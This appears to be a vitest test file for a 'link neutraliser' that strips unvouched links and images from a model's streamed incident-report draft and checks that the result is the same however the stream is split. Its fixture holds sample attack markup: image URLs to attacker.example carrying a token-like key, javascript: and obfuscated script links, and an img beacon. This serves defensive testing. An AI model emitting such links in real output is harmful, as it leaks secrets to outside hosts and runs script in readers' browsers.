/**
 * The link neutraliser on its own: what a draft keeps and loses, and the same result however the
 * model's answer is cut into deltas.
 */
import { describe, expect, it } from 'vitest';
import {
  LinkNeutraliser,
  vouchedHostsOf,
} from '../../../src/services/generation/link-neutraliser.js';

const input = {
  incident: {
    title: 'Checkout errors',
    notes: [
      { text: 'Dashboard: https://grafana.acme.example/d/checkout?from=now-1h' },
      { text: 'Graph ![p99](https://grafana.acme.example/render/p99.png)' },
    ],
  },
};

/** The deltas as the runner feeds them, then what is held released as at the answer's end. */
function neutralise(deltas: string[]) {
  const neutraliser = new LinkNeutraliser(vouchedHostsOf(input));
  const out = [...deltas.map((delta) => neutraliser.push(delta)), neutraliser.flush()].filter(
    Boolean,
  );
  return { text: out.join(''), deltas: out, issues: neutraliser.issues.map((i) => i.value) };
}

const ANSWER = [
  'Rollback started. See [the dashboard](https://grafana.acme.example/d/other) and',
  '![p99](https://grafana.acme.example/render/p99.png).',
  '',
  'Leaked: ![x](https://attacker.example/c.png?k=sk-123) and ![y](https://grafana.acme.example/render/p99.png?k=sk-123)',
  '[click](javascript:alert(document.cookie)) [also](<JaVa&#x09;ScRiPt&#58;alert(1)>) [here](https://attacker.example/a)',
  '<img src="https://attacker.example/p.gif?d=1"> <https://attacker.example/auto> [docs](/runbooks/checkout) ![ok](diagram.png)',
  '![ref][r] [mail](mailto:oncall@acme.example) [proto](//attacker.example/x) [slash](/\\attacker.example/y)',
  '',
  '[r]: https://attacker.example/ref.png [odd](&#99999999;x)',
].join('\n');

describe('the link neutraliser', () => {
  it('keeps what the input vouches for and removes the rest, reporting each', async () => {
    const { text, issues } = neutralise([ANSWER]);
    expect(text).toContain('[the dashboard](https://grafana.acme.example/d/other)');
    // Even an image the input holds: it tells its owner who read the draft, and when.
    expect(text).toContain('[image removed].');
    expect(text).toContain('[docs](/runbooks/checkout)');
    expect(text).toContain('![ok](diagram.png)');
    expect(text).toContain('[mail](mailto:oncall@acme.example)');
    expect(text).not.toMatch(/attacker\.example|javascript|<img|\?k=sk-123/i);
    expect(text).toContain('Leaked: [image removed] and [image removed]');
    expect(text).toContain('click also here');
    expect(text).toContain('[r]: #');
    expect(issues).toEqual(
      expect.arrayContaining([
        'https://attacker.example/c.png?k=sk-123',
        'https://grafana.acme.example/render/p99.png?k=sk-123',
        'javascript:alert(document.cookie)',
        'https://attacker.example/ref.png',
        'https://grafana.acme.example/render/p99.png',
      ]),
    );
    expect(issues).toHaveLength(11);
  });

  it('gives the same text however the answer is cut into deltas, and deltas that add up to it', async () => {
    const whole = neutralise([ANSWER]);
    const byChar = neutralise([...ANSWER]);
    expect(byChar.text).toBe(whole.text);
    expect(byChar.deltas.join('')).toBe(byChar.text);
    expect([...byChar.issues].sort()).toEqual([...whole.issues].sort());
    // Text no link can start in streams on at once rather than waiting for the paragraph.
    expect(byChar.deltas.length).toBeGreaterThan(20);
    for (const size of [2, 3, 7, 13]) {
      const cut = ANSWER.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g'))!;
      expect(neutralise(cut).text).toBe(whole.text);
    }
  });
});
